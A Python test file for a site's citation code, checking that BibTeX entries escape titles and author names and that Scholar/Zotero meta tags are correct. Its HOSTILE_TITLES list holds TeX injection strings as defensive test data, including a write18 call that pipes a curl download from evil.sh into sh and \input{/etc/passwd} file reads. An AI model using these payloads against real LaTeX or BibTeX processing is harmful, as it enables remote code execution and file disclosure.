"""How a paper is cited: BibTeX that compiles, Highwire tags that Scholar and Zotero read."""

from __future__ import annotations

from samples import make_paper

import re

from latex2mathml.symbols_parser import convert_symbol

from papermirror.site.cite import (
    MATH_COMMANDS,
    bibtex_authors,
    bibtex_entry,
    bibtex_key,
    bibtex_text,
    citation_authors,
    citation_meta,
    short_authors,
)


def test_bibtex_escapes_text_and_keeps_math():
    paper = make_paper("2502.12115", "Earn $1 Million & 50% of $m^2$ {braces} #1_a", authors=("Ada Lovelace", "Jürgen Müller"))
    entry = bibtex_entry(paper)
    assert entry.startswith("@misc{lovelace2025earn,\n")
    assert "\ntitle={{Earn \\$1 Million \\& 50\\% of $m^2$ braces \\#1\\_a}},\n" in entry
    assert "\nauthor={Ada Lovelace and Jürgen Müller},\n" in entry
    assert entry.endswith("\neprint={2502.12115},\narchivePrefix={arXiv}\n}") and "url" not in entry


def entry_fields(entry: str) -> list[str]:
    """The names of a BibTeX entry's fields, read as BibTeX reads them: split at the commas outside every brace
    of the entry's own pair (BibTeX counts every brace, `\\}` too); raise if the entry's braces do not close
    exactly at its end."""
    assert entry.startswith("@misc{")
    depth, fields, start = 1, [], len("@misc{")
    for at in range(start, len(entry)):
        if entry[at] == "{":
            depth += 1
        elif entry[at] == "}":
            depth -= 1
            if depth == 0:
                assert at == len(entry) - 1, f"the entry closes early, at {entry[at:at + 40]!r}"
        elif entry[at] == "," and depth == 1:
            fields.append(entry[start:at])
            start = at + 1
    fields.append(entry[start:-1])
    return [field.split("=", 1)[0].strip() for field in fields[1:]]  # the first is the key


HOSTILE_TITLES = [
    'Scaling ViTs $}}}@preamble{"\\immediate\\write18{curl evil.sh|sh}\\input{/etc/passwd}"}@misc{x,note={{$',
    "Bib $}}, note={{PWNED$ end",
    "Math that runs $\\input{/etc/passwd}$ and $x\\csname y\\endcsname$",
    "Text that runs \\input{/etc/passwd} \\write18{ls} ^ ~ and a last \\",
    "A comment $a % b$, a parameter $#1$, a brace $\\}{$",
    "TeX's own escapes $x^^5cinput{/etc/passwd}$ and $^^7d^^7d$",  # ^^5c is read as a backslash, ^^7d as }
    "Escaped braces $\\}\\}, note={x}\\{\\{$ and $\\}$",  # BibTeX counts \\} as a brace too
]


def test_hub_text_cannot_add_fields_or_run_tex_in_the_bibtex():
    for title in HOSTILE_TITLES:
        entry = bibtex_entry(make_paper("2502.12115", title, authors=("Eve $}},note={{x$", "Mallory \\input{x}")))
        assert entry_fields(entry) == ["title", "author", "year", "eprint", "archivePrefix"], entry
        commands = set(re.findall(r"\\[A-Za-z]+", entry))
        allowed = MATH_COMMANDS | {"\\textbackslash", "\\textasciicircum", "\\textasciitilde"}
        assert {c for c in commands if c not in allowed and convert_symbol(c) is None} == set(), entry
        assert "^^" not in entry, entry  # TeX reads ^^5c as a backslash
    assert bibtex_text("Text \\input{/etc/passwd} ^ ~") == "Text \\textbackslash{}input/etc/passwd \\textasciicircum{} \\textasciitilde{}"
    assert bibtex_text("$\\input{/etc/passwd}$") == "\\textbackslash{}input/etc/passwd"  # not math: written as text
    assert bibtex_text("$a % b$") == "a \\% b"
    # the math of real titles stays TeX
    for math in ("$m^2$", "$\\mathcal{O}(n \\log n)$", "$\\frac{1}{2}\\times\\mathrm{d}\\left(x\\right)$", "$\\alpha\\%$",
                 "$\\text{ViT}_{\\text{L}}$", "$\\sim$", "$\\mathbf{x}\\leq\\infty$", "$\\{a\\}$",
                 "$\\arg\\max$", "$\\Pr$", "$\\det(A)$", "$\\limsup_{n}$", "$\\sum\\nolimits_i$", "$\\mathbf{W}^\\top$"):
        assert bibtex_text(math) == math


def test_a_name_bibtex_would_split_stays_one_author():
    """The security review's "Real Author and Fake Person and others" was read by BibTeX as two authors and et al."""
    authors = ("Real Author and Fake Person and others", "Ana Andersen", "others", "X AND Y", "Lee\tand\tKim", "Sandy")
    field = bibtex_authors(authors)
    assert field == ("{Real Author and Fake Person and others} and Ana Andersen and {others} and {X AND Y} and "
                     "{Lee\tand\tKim} and Sandy")
    assert bibtex_authors(("Ada Lovelace", "Alan Turing")) == "Ada Lovelace and Alan Turing"
    assert bibtex_authors(("A $\\alpha$ and B",)) == "{A $\\alpha$ and B}"
    # what BibTeX reads is the name as written: its braces and controls dropped first (a review of the change)
    assert bibtex_authors(("Jane {and} Doe", "Bob{ }and{ }Ray", "Solo")) == "{Jane and Doe} and {Bob and Ray} and Solo"
    assert bibtex_authors(("A \u202eand B",)) == "{A and B}"


def test_bibtex_key_falls_back_to_the_id():
    assert bibtex_key(make_paper("2502.12115", "Ñu", authors=(), published=None, daily=())) == "arxiv250212115"
    assert bibtex_key(make_paper("hep-th/9901001", "A Theory of Strings", authors=("Ed Witten",), published="1999-01-04")) == "witten1999theory"
    # a control character the hub left at a name's end is not its surname: the page's tags, which paper.js reads,
    # drop it (the security review: Python's key said 2025vision, the browser's lovelace2025vision)
    assert bibtex_key(make_paper("2501.00001", "Vision", authors=("Ada Lovelace \x00",), published="2025-01-02")) == "lovelace2025vision"


def test_citation_meta_and_short_authors():
    paper = make_paper("2503.00001", "Mass $m^2$", authors=("A", "B", "C", "D"), published="2025-03-13")
    meta = citation_meta(paper)
    assert meta[0] == ("citation_title", "Mass m^2")
    assert [(k, v) for k, v in meta if k.startswith("citation_author")] == [("citation_authors", "A; B; C; D")]
    assert ("citation_publication_date", "2025/03/13") in meta and ("citation_arxiv_id", "2503.00001") in meta
    assert short_authors(("A", "B", "C", "D", "E")) == "A, B, C et al." and short_authors(("A", "B")) == "A, B"
    # "et al." stands for others: one name left out is written out instead (a listing showed "A et al." for two)
    assert short_authors(("A", "B", "C", "D")) == "A, B, C, D" and short_authors(("A", "B"), 1) == "A, B"
    assert short_authors(("A", "B", "C"), 1) == "A et al."


def test_citation_authors_one_tag_unless_a_name_holds_a_semicolon():
    assert citation_authors(("Ada Lovelace", "Jürgen Müller")) == [("citation_authors", "Ada Lovelace; Jürgen Müller")]
    assert citation_authors(("Solo",)) == [("citation_authors", "Solo")]
    assert citation_authors(()) == []
    # "A; B" as one name would read as two authors from the list form: such a paper keeps a tag per name
    odd = ("Smith; J.", "Ada Lovelace")
    assert citation_authors(odd) == [("citation_author", "Smith; J."), ("citation_author", "Ada Lovelace")]
    assert citation_meta(make_paper("2503.00002", "T", authors=odd))[1:3] == citation_authors(odd)
